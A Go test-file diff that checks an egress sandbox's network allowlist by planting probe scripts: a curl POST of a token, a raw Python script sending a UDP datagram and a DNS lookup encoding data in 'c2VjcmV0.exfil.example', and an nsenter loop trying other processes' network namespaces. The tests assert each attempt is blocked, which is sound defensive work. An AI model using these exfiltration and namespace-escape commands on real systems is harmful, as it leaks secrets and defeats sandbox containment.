@@ -175,7 +175,9 @@ func (w *netWorld) stopDaemons(t *testing.T) {
 
 const hookScript = "#!/bin/sh\n# posts to a chat webhook\ncurl -fsS --max-time 10 -X POST --data 'token=s3cr3t' http://%s/hook\n"
 
-// rawScript ignores the proxy variables and connects itself.
+// rawScript ignores the proxy variables: it connects itself over TCP,
+// sends a UDP datagram, and looks a name up (a DNS query can carry data
+// out in the name).
 const rawScript = `import socket, sys
 try:
     s = socket.create_connection((sys.argv[1], 80), timeout=5)
@@ -183,6 +185,29 @@ try:
     print("reached", s.recv(100))
 except OSError as e:
     print("blocked:", e)
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (sys.argv[1], 53))
+    print("udp sent")
+except OSError as e:
+    print("udp blocked:", e)
+try:
+    print("resolved", socket.getaddrinfo("c2VjcmV0.exfil.example", 80))
+except OSError as e:
+    print("dns blocked:", e)
+`
+
+// escapeScript tries every network namespace of this user's other
+// processes (the daemon's, the agent's) with nsenter.
+const escapeScript = `#!/bin/sh
+own=$(readlink /proc/self/ns/net)
+for f in /proc/[0-9]*/ns/net; do
+	ns=$(readlink "$f" 2>/dev/null) || continue
+	[ "$ns" = "$own" ] && continue
+	if nsenter --net="$f" --preserve-credentials curl -fsS --max-time 3 -o /dev/null http://%s/escape 2>/dev/null; then
+		echo "escaped through $f"
+	fi
+done
+echo done
 `
 
 // relayScript opens a tunnel to an allowed address through the proxy in
@@ -210,6 +235,7 @@ func (w *netWorld) netScripts(t *testing.T, host *egresstest.Host) {
 	w.file(t, "tools/hook.sh", fmt.Sprintf(hookScript, host.A))
 	w.file(t, "tools/raw.py", rawScript)
 	w.file(t, "tools/relay.py", relayScript)
+	w.file(t, "tools/escape.sh", fmt.Sprintf(escapeScript, host.A))
 }
 
 // checkAllowlist is the core of the network tests, run as root and as a
@@ -252,8 +278,15 @@ func checkAllowlist(t *testing.T, w *netWorld, host *egresstest.Host) {
 	if seen := host.Seen(); len(seen) != 1 || seen[0].Body != "token=s3cr3t" || seen[0].Addr != host.A {
 		t.Fatalf("the test host saw %+v", seen)
 	}
-	if out, _ := w.run(t, "python3 tools/raw.py "+host.A); !strings.Contains(out, "blocked:") {
+	out, _ = w.run(t, "python3 tools/raw.py "+host.A)
+	if !strings.Contains(out, "\nblocked:") && !strings.HasPrefix(out, "blocked:") || !strings.Contains(out, "udp blocked:") {
 		t.Errorf("a program that ignores the proxy, with the host allowed: %s", out)
+	}
+	if resolverSocket() == "" && !strings.Contains(out, "dns blocked:") {
+		t.Errorf("a name was looked up from inside the namespace: %s", out)
+	}
+	if out, _ := w.run(t, "./tools/escape.sh"); strings.Contains(out, "escaped") || !strings.Contains(out, "done") {
+		t.Errorf("a command left the namespace: %s", out)
 	}
 	for _, c := range []struct{ target, name string }{
 		{host.A, "other.test"},   // an allowed address, another server name
@@ -267,6 +300,18 @@ func checkAllowlist(t *testing.T, w *netWorld, host *egresstest.Host) {
 	for _, s := range host.Seen()[1:] {
 		t.Errorf("a relay reached the test host: %+v", s)
 	}
+}
+
+// resolverSocket is a local resolver's Unix socket, which a command in
+// the namespace still reaches: names are then looked up outside it (see
+// docs/network.md).
+func resolverSocket() string {
+	for _, p := range []string{"/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket", "/run/nscd/socket"} {
+		if _, err := os.Stat(p); err == nil {
+			return p
+		}
+	}
+	return ""
 }
 
 // checkLoopback: a server one command starts on 127.0.0.1 answers the
